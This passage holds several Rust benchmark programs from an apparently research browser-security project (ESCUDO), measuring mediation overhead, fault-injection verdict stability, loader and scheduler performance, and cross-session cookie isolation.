        .num("warm_lookup_ratio", warm_ratio);
    if warm_ratio <= MAX_WARM_LOOKUP_REGRESSION {
        println!("ok: warm lookups within the 5% regression budget");
    } else {
        eprintln!(
            "FAIL: lock-free warm lookups cost {:.1}% of the rwlock reference (gate: ≤ {:.0}%) \
             — the steady state is paying for the storm fix",
            warm_ratio * 100.0,
            MAX_WARM_LOOKUP_REGRESSION * 100.0
        );
        failed = true;
    }

    // ------------------------------------------------- occupancy observability
    let (shared_pairs, disjoint_pairs) = storm_contexts(shared, disjoint, max_thread_count);
    let interner = ContextInterner::with_buckets(STORM_BUCKETS);
    std::thread::scope(|scope| {
        for own in &disjoint_pairs {
            let interner = &interner;
            let shared_pairs = &shared_pairs;
            scope.spawn(move || {
                for (principal, object) in shared_pairs.iter().chain(own) {
                    interner.intern_principal(principal);
                    interner.intern_object(object);
                }
            });
        }
    });
    println!(
        "interner occupancy after one {max_thread_count}-thread storm: {} principals + {} \
         objects interned, {} CAS retries, max bucket depth {}",
        interner.principal_count(),
        interner.object_count(),
        interner.cas_retries(),
        interner.max_bucket_depth()
    );
    // The spill policy bounds every primary chain's walk to the spill window;
    // a deeper chain after a storm means the bound regressed.
    if interner.max_bucket_depth() <= SPILL_WINDOW_SLOTS {
        println!(
            "ok: max bucket depth {} within the {SPILL_WINDOW_SLOTS}-slot spill window",
            interner.max_bucket_depth()
        );
    } else {
        eprintln!(
            "FAIL: max bucket depth {} exceeds the {SPILL_WINDOW_SLOTS}-slot spill window — \
             saturated buckets are chaining instead of spilling",
            interner.max_bucket_depth()
        );
        failed = true;
    }
    json.int("occupancy_principals", interner.principal_count() as u64)
        .int("occupancy_objects", interner.object_count() as u64)
        .int("occupancy_cas_retries", interner.cas_retries())
        .int(
            "interner_max_bucket_depth",
            interner.max_bucket_depth() as u64,
        )
        .int("spill_window_slots", SPILL_WINDOW_SLOTS as u64)
        .num("storm_speedup_at_max_threads", speedup_at_max)
        .num("storm_speedup_gate", required)
        .int("hardware_threads", hardware_threads as u64)
        .flag("gates_passed", !failed);

    json.write_if_requested(&args);
    if failed {
        std::process::exit(1);
    }
}
