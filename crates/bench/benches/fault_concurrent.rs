//! Chaos under the reference monitor: the fault-injection fabric driven
//! against the full scenario fleet, gated on the paper's fail-closed claim.
//!
//! Run with `cargo bench --bench fault_concurrent` (optionally
//! `-- --repeats N --json path`). This is a plain `harness = false` binary; it
//! exits non-zero if a resilience gate fails:
//!
//! * **chaos verdict gate** — the whole (app × attack × policy-mode) matrix
//!   is replayed under each fault schedule; **zero** cells may change verdict
//!   and the reference-monitor check/denial counts must equal the fault-free
//!   matrix exactly (retries re-send the mediated request verbatim — chaos
//!   may move bytes in time, never move a security decision),
//! * **amplification gate** — retries stay bounded by injected faults
//!   (`retry_attempts <= faults_injected`: every retry is caused by a fault),
//!   and no breaker fast-fails fire under the breaker-less matrix schedules,
//! * **retry oracle gate** — a faulted-then-retried session's request log and
//!   per-subresource attached cookies are byte-identical to the fault-free
//!   run, under both policy modes,
//! * **breaker gate** — the Closed → Open → HalfOpen → Closed walk on a
//!   manual clock lands on exact counter constants (trips, fast-fails,
//!   probes, recoveries, retry budget, deadline refusals).

use std::time::Instant;

use escudo_apps::scenario::{registry, MatrixReport};
use escudo_bench::cli::{parse_flag, JsonReport};
use escudo_bench::fault::{run_breaker_drill, run_matrix_under_chaos, run_retry_oracle, schedules};
use escudo_browser::PolicyMode;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let repeats = parse_flag(&args, "--repeats", 1).max(1);

    let mut failed = false;
    let mut json = JsonReport::new("fault_concurrent");

    // ------------------------------------------------- fault-free baseline
    let scenarios = registry();
    let baseline = MatrixReport::run(&scenarios);
    println!(
        "fault_concurrent: {} cells fault-free, {} schedules, {repeats} repeats",
        baseline.cells(),
        schedules().len()
    );
    if !baseline.unexpected().is_empty() {
        eprintln!("FAIL: the fault-free baseline matrix itself has unexpected cells");
        failed = true;
    }

    // ------------------------------------------------- chaos verdict gate
    for schedule in &schedules() {
        let started = Instant::now();
        let mut chaos = run_matrix_under_chaos(schedule);
        for _ in 1..repeats {
            chaos = run_matrix_under_chaos(schedule);
        }
        let per_pass_ms = started.elapsed().as_secs_f64() * 1e3 / f64::from(repeats as u32);

        let unexpected = chaos.report.unexpected().len();
        let mut verdicts_stable = unexpected == 0;
        for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
            verdicts_stable &= chaos.report.successes(mode) == baseline.successes(mode)
                && chaos.report.neutralized(mode) == baseline.neutralized(mode)
                && chaos.report.total_checks(mode) == baseline.total_checks(mode)
                && chaos.report.total_denials(mode) == baseline.total_denials(mode);
        }
        println!(
            "  {:<12} {:>2} unexpected, {:>4} faults, {:>4} retries, {:>3} sessions, {per_pass_ms:.1}ms",
            chaos.schedule, unexpected, chaos.faults_injected, chaos.retry_attempts, chaos.sessions
        );
        let key = |suffix: &str| format!("chaos_{}_{suffix}", chaos.schedule);
        json.int(&key("unexpected"), unexpected as u64)
            .int(&key("sessions"), chaos.sessions as u64)
            .int(&key("faults_injected"), chaos.faults_injected)
            .int(&key("fault_slowdowns"), chaos.fault_slowdowns)
            .int(&key("retry_attempts"), chaos.retry_attempts)
            .int(&key("retry_successes"), chaos.retry_successes)
            .num(&key("pass_ms"), per_pass_ms);

        if !verdicts_stable {
            eprintln!(
                "FAIL: schedule `{}` moved a security verdict or a mediation count",
                chaos.schedule
            );
            failed = true;
        }
        if chaos.faults_injected == 0 || chaos.retry_attempts == 0 {
            eprintln!(
                "FAIL: schedule `{}` injected {} faults and granted {} retries — the chaos \
                 hook is not reaching the fetch path",
                chaos.schedule, chaos.faults_injected, chaos.retry_attempts
            );
            failed = true;
        }
        if chaos.retry_attempts > chaos.faults_injected
            || chaos.retry_deadline_exhausted != 0
            || chaos.breaker_fast_fails != 0
        {
            eprintln!(
                "FAIL: schedule `{}` amplified: {} retries for {} faults, {} deadline \
                 refusals, {} breaker fast-fails",
                chaos.schedule,
                chaos.retry_attempts,
                chaos.faults_injected,
                chaos.retry_deadline_exhausted,
                chaos.breaker_fast_fails
            );
            failed = true;
        }
    }

    // --------------------------------------------------- retry oracle gate
    for (mode, key) in [
        (PolicyMode::SameOriginOnly, "sop"),
        (PolicyMode::Escudo, "escudo"),
    ] {
        let oracle = run_retry_oracle(mode);
        println!(
            "  oracle {key:<7} logs={} cookies={} mediation={} ({} retries over {} subresources)",
            oracle.logs_identical,
            oracle.attachments_identical,
            oracle.mediation_identical,
            oracle.faulted_retries,
            oracle.subresources
        );
        json.flag(
            &format!("oracle_{key}_logs_identical"),
            oracle.logs_identical,
        )
        .flag(
            &format!("oracle_{key}_cookies_identical"),
            oracle.attachments_identical,
        )
        .int(
            &format!("oracle_{key}_retry_attempts"),
            oracle.faulted_retries,
        );
        let holds = oracle.logs_identical
            && oracle.attachments_identical
            && oracle.mediation_identical
            && oracle.clean_retries == 0
            && oracle.faulted_retries > 0;
        if !holds {
            eprintln!("FAIL: the retry oracle does not hold under {mode}");
            failed = true;
        }
    }

    // -------------------------------------------------------- breaker gate
    let drill = run_breaker_drill();
    println!(
        "  breaker trips={} fast_fails={} probes={} recoveries={} retries={} deadline={}",
        drill.trips,
        drill.fast_fails,
        drill.probes,
        drill.recoveries,
        drill.retry_attempts,
        drill.deadline_exhausted
    );
    json.int("breaker_trips", drill.trips)
        .int("breaker_fast_fails", drill.fast_fails)
        .int("breaker_probes", drill.probes)
        .int("breaker_recoveries", drill.recoveries)
        .int("drill_retry_attempts", drill.retry_attempts)
        .int("drill_retry_deadline_exhausted", drill.deadline_exhausted);
    if !drill.exact() {
        eprintln!("FAIL: the breaker drill's counters drifted off their manual-clock constants: {drill:?}");
        failed = true;
    }

    json.flag("gates_passed", !failed);
    json.write_if_requested(&args);
    if failed {
        std::process::exit(1);
    }
}
