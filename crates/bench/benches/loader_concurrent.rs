//! Pipelined-vs-sequential subresource loading over the shared network fabric:
//! page loads whose `img` fetches fan out across a bounded worker pool, against
//! the inline sequential oracle.
//!
//! Run with `cargo bench --bench loader_concurrent` (optionally
//! `-- --threads N --images K --passes P`). This is a plain `harness = false`
//! binary; it reports ns/page at both worker bounds under simulated latency and
//! at zero latency, and exits non-zero if a behavioural gate fails:
//!
//! * with ≥ 100µs per-origin latency and ≥ 8 images, the pipelined page load must
//!   be at least **2× faster** than the sequential oracle (the fan-out must
//!   actually overlap the service times),
//! * with zero latency the pipelined loader must not regress below **90%** of
//!   sequential throughput (the adaptive cutover keeps memory-speed pages on the
//!   inline path),
//! * just above the cutover threshold — where the worker pool *actually
//!   engages* — the pipelined loader must likewise stay above **90%** of
//!   sequential (catches fan-out machinery regressions the cutover would hide),
//! * the sequence-sorted request log of a pipelined run under *reverse-skewed*
//!   latency must be **byte-identical** to the sequential oracle's, attached
//!   cookie names included, and per-subresource outcomes must be recorded in
//!   document order,
//! * N sessions sharing one fabric + jar + engine must show **zero** cross-session
//!   cookie leakage in the shared log.

use std::time::Duration;

use escudo_bench::cli::{parse_flag, JsonReport};
use escudo_bench::loader::{
    best_page_loads, run_loader_oracle, run_shared_fabric_sessions, LoaderSample,
};

/// Minimum pipelined-over-sequential speedup required under simulated latency.
const MIN_LATENCY_SPEEDUP: f64 = 2.0;

/// Fraction of sequential throughput the pipelined loader must retain at zero
/// latency.
const NO_REGRESSION_FRACTION: f64 = 0.9;

/// Per-origin simulated latency of the speedup gate (the acceptance criterion is
/// specified at ≥ 100µs).
const GATE_LATENCY: Duration = Duration::from_micros(200);

/// Per-origin latency just above the loader's adaptive fan-out cutover
/// (8 images × 25µs = 200µs estimated > the 150µs threshold): the worker pool
/// *actually engages* here, so this gate — unlike the zero-latency one, where
/// the cutover keeps both sides on the inline path — catches regressions in the
/// fan-out machinery itself (submission cost, batch rendezvous, slot
/// recording). The cutover dropped from 300µs to 150µs when the per-page
/// scoped-thread spawn was replaced by the fabric's persistent parked pool, so
/// this gate now runs at less than half the latency the spawn-based loader
/// could afford — the direct measure of the cheaper fan-out constant.
const EDGE_LATENCY: Duration = Duration::from_micros(25);

fn report_line(label: &str, sample: &LoaderSample) {
    println!(
        "  {label:<28} {: >2} worker(s)  {: >11.0} ns/page  {: >9.0} pages/s",
        sample.workers,
        sample.ns_per_page(),
        sample.pages_per_sec(),
    );
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let sessions = parse_flag(&args, "--threads", 8).max(1);
    let images = parse_flag(&args, "--images", 8).max(8);
    let passes = parse_flag(&args, "--passes", 30).max(2);
    let origins = images.min(8);
    println!(
        "loader_concurrent: {images} images over {origins} origins, {passes} passes per sample, \
         {sessions} shared-fabric sessions"
    );

    let mut failed = false;

    // ------------------------------------------------- latency speedup gate
    println!(
        "page loads at {}µs per-origin latency:",
        GATE_LATENCY.as_micros()
    );
    let sequential = best_page_loads(images, origins, GATE_LATENCY, 1, passes, 3);
    report_line("sequential oracle", &sequential);
    let pipelined = best_page_loads(images, origins, GATE_LATENCY, 8, passes, 3);
    report_line("pipelined (8 workers)", &pipelined);
    let speedup = sequential.ns_per_page() / pipelined.ns_per_page();
    if speedup >= MIN_LATENCY_SPEEDUP {
        println!("ok: pipelined page load {speedup:.2}x sequential under latency");
    } else {
        eprintln!(
            "FAIL: pipelined page load only {speedup:.2}x sequential under \
             {}µs latency (gate: ≥ {MIN_LATENCY_SPEEDUP:.1}x)",
            GATE_LATENCY.as_micros()
        );
        failed = true;
    }

    // ------------------------------------------------- zero-latency overhead gate
    println!("page loads at zero latency:");
    let sequential0 = best_page_loads(images, origins, Duration::ZERO, 1, passes, 3);
    report_line("sequential oracle", &sequential0);
    let pipelined0 = best_page_loads(images, origins, Duration::ZERO, 8, passes, 3);
    report_line("pipelined (8 workers)", &pipelined0);
    let retained = pipelined0.pages_per_sec() / sequential0.pages_per_sec();
    if retained >= NO_REGRESSION_FRACTION {
        println!(
            "ok: pipelined retains {:.0}% of sequential throughput at zero latency",
            retained * 100.0
        );
    } else {
        eprintln!(
            "FAIL: pipelined loader at zero latency fell to {:.0}% of sequential \
             throughput (gate: ≥ {:.0}%) — fan-out overhead regression",
            retained * 100.0,
            NO_REGRESSION_FRACTION * 100.0
        );
        failed = true;
    }

    // ------------------------------------------------- fan-out-engaged edge gate
    println!(
        "page loads at {}µs per-origin latency (just above the fan-out cutover):",
        EDGE_LATENCY.as_micros()
    );
    let sequential_edge = best_page_loads(images, origins, EDGE_LATENCY, 1, passes, 3);
    report_line("sequential oracle", &sequential_edge);
    let pipelined_edge = best_page_loads(images, origins, EDGE_LATENCY, 8, passes, 3);
    report_line("pipelined (8 workers)", &pipelined_edge);
    let retained_edge = pipelined_edge.pages_per_sec() / sequential_edge.pages_per_sec();
    if retained_edge >= NO_REGRESSION_FRACTION {
        println!(
            "ok: engaged fan-out sustains {retained_edge:.2}x sequential throughput \
             at the cutover edge"
        );
    } else {
        eprintln!(
            "FAIL: engaged fan-out at the cutover edge fell to {:.0}% of sequential \
             throughput (gate: ≥ {:.0}%) — worker-pool overhead regression",
            retained_edge * 100.0,
            NO_REGRESSION_FRACTION * 100.0
        );
        failed = true;
    }

    // ------------------------------------------------- determinism oracle gate
    let oracle = run_loader_oracle(images, origins, 3);
    println!(
        "determinism oracle: {} log entries, {} log mismatches, {} attachment \
         mismatches, {} order violations vs the sequential replay",
        oracle.requests,
        oracle.log_mismatches,
        oracle.attachment_mismatches,
        oracle.order_violations
    );
    if oracle.log_mismatches != 0
        || oracle.attachment_mismatches != 0
        || oracle.order_violations != 0
    {
        eprintln!(
            "FAIL: pipelined run diverged from the sequential oracle (log {} / \
             attachments {} / order {})",
            oracle.log_mismatches, oracle.attachment_mismatches, oracle.order_violations
        );
        failed = true;
    }

    // ------------------------------------------------- shared-fabric isolation gate
    let isolation = run_shared_fabric_sessions(sessions, 4, 3);
    println!(
        "shared fabric: {} sessions, {} logged requests, {} sessions attached their \
         own cookie, {} cross-session leaks",
        isolation.sessions,
        isolation.requests,
        isolation.sessions_with_cookies,
        isolation.isolation_violations
    );
    if isolation.isolation_violations != 0 {
        eprintln!(
            "FAIL: {} cookies leaked across sessions sharing one fabric",
            isolation.isolation_violations
        );
        failed = true;
    }
    if isolation.sessions_with_cookies != isolation.sessions {
        eprintln!(
            "FAIL: only {} of {} shared-fabric sessions attached their session cookie \
             to their subresource fetches",
            isolation.sessions_with_cookies, isolation.sessions
        );
        failed = true;
    }

    let mut json = JsonReport::new("loader_concurrent");
    json.int("images", images as u64)
        .int("origins", origins as u64)
        .int("gate_latency_us", GATE_LATENCY.as_micros() as u64)
        .int("edge_latency_us", EDGE_LATENCY.as_micros() as u64)
        .num("sequential_ns_per_page", sequential.ns_per_page())
        .num("pipelined_ns_per_page", pipelined.ns_per_page())
        .num("latency_speedup", speedup)
        .num("zero_latency_retained", retained)
        .num("edge_retained", retained_edge)
        .int("oracle_log_mismatches", oracle.log_mismatches as u64)
        .int(
            "oracle_attachment_mismatches",
            oracle.attachment_mismatches as u64,
        )
        .int("oracle_order_violations", oracle.order_violations as u64)
        .int("isolation_sessions", isolation.sessions as u64)
        .int(
            "isolation_violations",
            isolation.isolation_violations as u64,
        )
        .flag("gates_passed", !failed);
    json.write_if_requested(&args);

    if failed {
        std::process::exit(1);
    }
}
