//! Bench for §6.5's second measurement: UI-event handling with and without ESCUDO
//! (event delivery is an implicit `use` of the target element, and the handler runs as
//! a ring-labelled principal). Repeated dispatches hit the engine's decision cache, so
//! this also exercises the cached mediation path end to end.
//!
//! Run with `cargo bench --bench event_dispatch` (plain `harness = false` binary).

use std::time::Instant;

use escudo_bench::cli::JsonReport;
use escudo_bench::workload::{figure4_scenarios, generate_page};
use escudo_browser::{Browser, PolicyMode};
use escudo_dom::EventType;
use escudo_net::{Request, Response};

fn browser_with_page(mode: PolicyMode, html: &str) -> (Browser, escudo_browser::PageId) {
    let mut browser = Browser::new(mode);
    let page_html = html.to_string();
    browser
        .network_mut()
        .register("http://workload.example", move |_req: &Request| {
            Response::ok_html(page_html.clone())
        });
    let page = browser.navigate("http://workload.example/").unwrap();
    (browser, page)
}

/// Best-of-`reps` nanoseconds per dispatch over `iters` dispatches.
fn time_dispatch(
    browser: &mut Browser,
    page: escudo_browser::PageId,
    reps: usize,
    iters: u32,
) -> f64 {
    // Warm up: page caches, interpreter, and the engine's decision cache.
    for _ in 0..iters {
        browser
            .fire_event(page, "action-0", EventType::Click)
            .unwrap();
    }
    (0..reps)
        .map(|_| {
            let start = Instant::now();
            for _ in 0..iters {
                std::hint::black_box(
                    browser
                        .fire_event(page, "action-0", EventType::Click)
                        .unwrap(),
                );
            }
            start.elapsed().as_nanos() as f64 / f64::from(iters)
        })
        .fold(f64::INFINITY, f64::min)
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let html = generate_page(&figure4_scenarios()[4]);
    const REPS: usize = 7;
    const ITERS: u32 = 300;

    println!("event_dispatch: click on a handler-carrying element, {ITERS} dispatches/rep");

    let (mut sop_browser, sop_page) = browser_with_page(PolicyMode::SameOriginOnly, &html);
    let without = time_dispatch(&mut sop_browser, sop_page, REPS, ITERS);
    println!("  without_escudo  {without:>9.1} ns/dispatch");

    let (mut escudo_browser, escudo_page) = browser_with_page(PolicyMode::Escudo, &html);
    let with = time_dispatch(&mut escudo_browser, escudo_page, REPS, ITERS);
    println!("  with_escudo     {with:>9.1} ns/dispatch");

    let stats = escudo_browser.engine().stats();
    println!(
        "  escudo overhead: {:+.1}%  (engine: {} decisions, {:.1}% cache hits)",
        (with - without) / without * 100.0,
        stats.decisions,
        stats.hit_rate() * 100.0
    );

    let mut json = JsonReport::new("event_dispatch");
    json.num("without_escudo_ns_per_dispatch", without)
        .num("with_escudo_ns_per_dispatch", with)
        .num("overhead_fraction", (with - without) / without)
        .int("engine_decisions", stats.decisions)
        .num("hit_rate", stats.hit_rate());
    json.write_if_requested(&args);
}
