//! Criterion bench for §6.5's second measurement: UI-event handling with and without
//! ESCUDO (event delivery is an implicit `use` of the target element, and the handler
//! runs as a ring-labelled principal).

use std::time::Duration;

use criterion::{criterion_group, criterion_main, Criterion};
use escudo_bench::workload::{figure4_scenarios, generate_page};
use escudo_browser::{Browser, PolicyMode};
use escudo_dom::EventType;
use escudo_net::{Request, Response};

fn browser_with_page(mode: PolicyMode, html: &str) -> (Browser, escudo_browser::PageId) {
    let mut browser = Browser::new(mode);
    let page_html = html.to_string();
    browser
        .network_mut()
        .register("http://workload.example", move |_req: &Request| {
            Response::ok_html(page_html.clone())
        });
    let page = browser.navigate("http://workload.example/").unwrap();
    (browser, page)
}

fn event_dispatch(c: &mut Criterion) {
    let html = generate_page(&figure4_scenarios()[4]);
    let mut group = c.benchmark_group("event_dispatch");
    group
        .warm_up_time(Duration::from_millis(300))
        .measurement_time(Duration::from_secs(2));

    let (mut sop_browser, sop_page) = browser_with_page(PolicyMode::SameOriginOnly, &html);
    group.bench_function("without_escudo", |b| {
        b.iter(|| sop_browser.fire_event(sop_page, "action-0", EventType::Click).unwrap())
    });

    let (mut escudo_browser, escudo_page) = browser_with_page(PolicyMode::Escudo, &html);
    group.bench_function("with_escudo", |b| {
        b.iter(|| {
            escudo_browser
                .fire_event(escudo_page, "action-0", EventType::Click)
                .unwrap()
        })
    });
    group.finish();
}

criterion_group!(benches, event_dispatch);
criterion_main!(benches);
