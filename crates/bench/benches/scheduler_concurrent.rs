//! The unified fetch scheduler under pressure: navigation-lane latency beneath
//! a bulk storm, speculative-prefetch speedup, and the prefetch mediation
//! oracle.
//!
//! Run with `cargo bench --bench scheduler_concurrent` (optionally
//! `-- --threads N --navigations V --passes P --json path`). This is a plain
//! `harness = false` binary; it exits non-zero if a behavioural gate fails:
//!
//! * **lane gate** — p99 navigation latency while N sibling sessions flood the
//!   same fabric with bulk image batches must stay within **2×** the unloaded
//!   p99. The two-lane queue (navigation tickets jump the bulk backlog, bulk
//!   drains yield at request boundaries) is what holds this; on a host without
//!   two hardware threads the storm and the navigator timeshare one core and
//!   the ratio measures the OS scheduler, not the lanes, so the gate degrades
//!   to observability with the reason printed,
//! * **prefetch gate** — with a `rel=prefetch` hint and 200µs origin latency,
//!   the hinted repeat navigation must be at least **1.3×** faster with
//!   speculation enabled, and every pass must consume its prefetch-cache hit,
//! * **oracle gate** — the same navigation sequence with prefetch on vs off
//!   must produce **byte-identical** sequence-sorted request logs and
//!   per-subresource attached cookie names: speculation may change when bytes
//!   move, never what ESCUDO decides,
//! * **isolation gate** — N prefetching sessions sharing one fabric + jar +
//!   engine must show **zero** cross-session cookie leakage; the prefetch
//!   cache's mediation-plan key (the exact cookie header) is what makes this
//!   hold.

use std::time::Duration;

use escudo_bench::cli::{parse_flag, JsonReport};
use escudo_bench::scheduler::{
    run_navigation_storm_best_of, run_prefetch_oracle, run_prefetch_sessions, run_prefetch_speedup,
};

/// Maximum loaded-over-unloaded p99 navigation-latency ratio under the storm.
const MAX_LOADED_P99_RATIO: f64 = 2.0;

/// Minimum cold-over-warm speedup of the hinted repeat navigation.
const MIN_PREFETCH_SPEEDUP: f64 = 1.3;

/// Per-origin simulated latency of the prefetch-speedup gate (the acceptance
/// criterion is specified at 200µs).
const PREFETCH_GATE_LATENCY: Duration = Duration::from_micros(200);

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let bulk_sessions = parse_flag(&args, "--threads", 8).max(1);
    let navigations = parse_flag(&args, "--navigations", 60).max(10);
    let passes = parse_flag(&args, "--passes", 30).max(3);
    println!(
        "scheduler_concurrent: {bulk_sessions} bulk storm sessions, {navigations} timed \
         navigations, {passes} prefetch passes"
    );

    let mut failed = false;
    let mut json = JsonReport::new("scheduler_concurrent");
    json.int("bulk_sessions", bulk_sessions as u64)
        .int("navigations", navigations as u64)
        .int("prefetch_passes", passes as u64);

    // ------------------------------------------------- navigation-lane gate
    let storm = run_navigation_storm_best_of(bulk_sessions, navigations, 3);
    println!(
        "navigation p99 (best of {}): {} ns unloaded (±{}), {} ns under a {}-session bulk \
         storm (±{}) — {:.2}x, {} lane preemptions",
        storm.repeats,
        storm.unloaded_p99_ns,
        storm.unloaded_p99_spread_ns,
        storm.loaded_p99_ns,
        storm.bulk_sessions,
        storm.loaded_p99_spread_ns,
        storm.p99_ratio(),
        storm.preemptions
    );
    let hardware_threads =
        std::thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get);
    json.int("nav_unloaded_p99_ns", storm.unloaded_p99_ns)
        .int("nav_unloaded_p99_ns_spread", storm.unloaded_p99_spread_ns)
        .int("nav_loaded_p99_ns", storm.loaded_p99_ns)
        .int("nav_loaded_p99_ns_spread", storm.loaded_p99_spread_ns)
        .num("nav_p99_ratio", storm.p99_ratio())
        .num("nav_p99_ratio_spread", storm.ratio_spread)
        .int("storm_preemptions", storm.preemptions)
        .int("hardware_threads", hardware_threads as u64);
    if hardware_threads < 2 {
        println!(
            "note: single hardware thread — the storm and the navigator timeshare one core, \
             so the p99 ratio measures the OS scheduler, not the lanes; lane gate skipped"
        );
    } else if storm.p99_ratio() <= MAX_LOADED_P99_RATIO {
        println!(
            "ok: loaded navigation p99 within {:.1}x of unloaded under the bulk storm",
            MAX_LOADED_P99_RATIO
        );
    } else {
        eprintln!(
            "FAIL: navigation p99 degraded {:.2}x under the bulk storm (gate: ≤ \
             {MAX_LOADED_P99_RATIO:.1}x) — the navigation lane is not preempting bulk work",
            storm.p99_ratio()
        );
        failed = true;
    }

    // ------------------------------------------------- prefetch-speedup gate
    let speedup = run_prefetch_speedup(PREFETCH_GATE_LATENCY, passes);
    println!(
        "hinted repeat navigation at {}µs origin latency: {:.0} ns cold, {:.0} ns \
         prefetched ({:.2}x, {} hits / {} passes)",
        PREFETCH_GATE_LATENCY.as_micros(),
        speedup.cold_ns,
        speedup.warm_ns,
        speedup.speedup(),
        speedup.hits,
        speedup.passes
    );
    json.num("prefetch_cold_ns", speedup.cold_ns)
        .num("prefetch_warm_ns", speedup.warm_ns)
        .num("prefetch_speedup", speedup.speedup())
        .int("prefetch_hits", speedup.hits);
    if speedup.hits as usize != speedup.passes {
        eprintln!(
            "FAIL: only {} of {} hinted repeat navigations hit the prefetch cache",
            speedup.hits, speedup.passes
        );
        failed = true;
    }
    if speedup.speedup() >= MIN_PREFETCH_SPEEDUP {
        println!(
            "ok: speculative prefetch speeds the hinted navigation up {:.2}x (gate: ≥ \
             {MIN_PREFETCH_SPEEDUP:.1}x)",
            speedup.speedup()
        );
    } else {
        eprintln!(
            "FAIL: prefetch only {:.2}x on the hinted repeat navigation (gate: ≥ \
             {MIN_PREFETCH_SPEEDUP:.1}x)",
            speedup.speedup()
        );
        failed = true;
    }

    // ------------------------------------------------- mediation-oracle gate
    let oracle = run_prefetch_oracle(3);
    println!(
        "prefetch oracle: {} log entries, {} log mismatches, {} attachment mismatches, \
         {} hits consumed on the speculative side",
        oracle.requests, oracle.log_mismatches, oracle.attachment_mismatches, oracle.prefetch_hits
    );
    json.int("oracle_requests", oracle.requests as u64)
        .int("oracle_log_mismatches", oracle.log_mismatches as u64)
        .int(
            "oracle_attachment_mismatches",
            oracle.attachment_mismatches as u64,
        )
        .int("oracle_prefetch_hits", oracle.prefetch_hits);
    if oracle.log_mismatches != 0 || oracle.attachment_mismatches != 0 {
        eprintln!(
            "FAIL: prefetch changed what the fabric saw (log {} / attachments {}) — \
             speculation must never alter a mediation outcome",
            oracle.log_mismatches, oracle.attachment_mismatches
        );
        failed = true;
    }

    // ------------------------------------------------- shared-fabric isolation gate
    let isolation = run_prefetch_sessions(bulk_sessions.min(8), 3);
    println!(
        "prefetching sessions on one fabric: {} sessions, {} logged requests, {} sessions \
         attached their own cookie, {} cross-session leaks, {} hits, {} stale plans discarded",
        isolation.sessions,
        isolation.requests,
        isolation.sessions_with_cookies,
        isolation.isolation_violations,
        isolation.prefetch_hits,
        isolation.stale_discards
    );
    json.int("isolation_sessions", isolation.sessions as u64)
        .int(
            "isolation_violations",
            isolation.isolation_violations as u64,
        )
        .int("isolation_prefetch_hits", isolation.prefetch_hits)
        .int("isolation_stale_discards", isolation.stale_discards);
    if isolation.isolation_violations != 0 {
        eprintln!(
            "FAIL: {} cookies leaked across prefetching sessions sharing one fabric",
            isolation.isolation_violations
        );
        failed = true;
    }
    if isolation.sessions_with_cookies != isolation.sessions {
        eprintln!(
            "FAIL: only {} of {} prefetching sessions attached their session cookie",
            isolation.sessions_with_cookies, isolation.sessions
        );
        failed = true;
    }

    json.flag("gates_passed", !failed);
    json.write_if_requested(&args);
    if failed {
        std::process::exit(1);
    }
}
