//! The multi-tenant control plane under pressure: noisy-neighbor isolation,
//! deterministic admission control, and hot reload under storm.
//!
//! Run with `cargo bench --bench tenant_concurrent` (optionally
//! `-- --threads N --batches B --passes P --json path`). This is a plain
//! `harness = false` binary; it exits non-zero if a behavioural gate fails:
//!
//! * **isolation gate** — tenant B's p99 warm-grid mediation latency under
//!   tenant A's 10× cache-churning storm must stay within **3×** of its
//!   unloaded baseline, its warm-cache hit rate must hold a **0.95 floor**,
//!   and A must force **zero** evictions on B's engine (per-tenant caches are
//!   physically disjoint). On a host without two hardware threads the storm
//!   and the victim timeshare one core, so the p99 ratio measures the OS
//!   scheduler, not tenant isolation — that one ratio gate degrades to
//!   observability with the reason printed; the eviction and hit-rate gates
//!   hold regardless,
//! * **admission gate** — a token bucket with `burst` tokens and no refill
//!   must admit exactly `burst` of the fired checks and shed every other one
//!   fail-closed with the distinct `Throttled` attribution,
//! * **refill gate** — under an injected [`ManualClock`] the bucket's refill
//!   is exactly countable: each hand-advanced step mints
//!   `floor(step × rate)` tokens, every one of which admits exactly one
//!   check and the probe beyond it is shed,
//! * **reload gate** — reader threads streaming `check_many` plans through one
//!   tenant while the control plane swaps ESCUDO ↔ same-origin generations
//!   must observe **zero** torn plans (every plan byte-identical to exactly
//!   one generation's `policy::decide` oracle), **zero** dropped or throttled
//!   decisions, and **zero** leaked retired generations (`Weak` witnesses).
//!
//! The report also exports one [`ControlPlaneSnapshot`] of a deterministic
//! two-tenant browsing scenario (`cp_*` keys, including the rolled-up
//! `cp_health` verdict: 0 ok / 1 degraded / 2 failing) — the unified
//! observability surface the control plane promises, flattened through its
//! stable field layout.
//!
//! [`ManualClock`]: escudo_core::tenant::ManualClock

use escudo_bench::cli::{parse_flag, JsonReport};
use escudo_bench::tenant::{
    run_admission_burst, run_admission_refill, run_hot_reload_storm, run_noisy_neighbor,
};
use escudo_browser::{Browser, ControlPlaneSnapshot};
use escudo_core::tenant::{TenantConfig, TenantRegistry};
use escudo_net::{Request, Response, Server};

/// Maximum contended-over-baseline p99 ratio for the victim tenant.
const MAX_NEIGHBOR_P99_RATIO: f64 = 3.0;

/// Minimum warm-cache hit rate the victim must hold under the storm.
const MIN_VICTIM_HIT_RATE: f64 = 0.95;

struct StaticPage;
impl Server for StaticPage {
    fn handle(&mut self, req: &Request) -> Response {
        let page = Response::ok_html("<html><body ring=1><p id=x>tenant page</p></body></html>");
        if req.url.path() == "/login.php" {
            page.with_cookie(escudo_net::SetCookie::new("sid", "cp"))
        } else {
            page
        }
    }
}

/// Loads a deterministic two-tenant scenario and exports its
/// [`ControlPlaneSnapshot`] fields under `cp_*` keys.
fn export_snapshot(json: &mut JsonReport) {
    let registry = TenantRegistry::new();
    let alpha = registry.register("alpha", TenantConfig::default());
    registry.register("beta", TenantConfig::default().with_admission(100, 0));

    let mut browser = Browser::with_tenant(alpha);
    browser
        .network_mut()
        .register("http://app.example", StaticPage);
    for page in ["/login.php", "/a.php", "/b.php", "/a.php"] {
        browser
            .navigate(&format!("http://app.example{page}"))
            .expect("tenant navigation");
    }
    let snapshot = ControlPlaneSnapshot::from_browser(&browser, Some(&registry));
    for (key, value) in snapshot.fields() {
        json.num(&format!("cp_{key}"), value);
    }
    let health = snapshot.health();
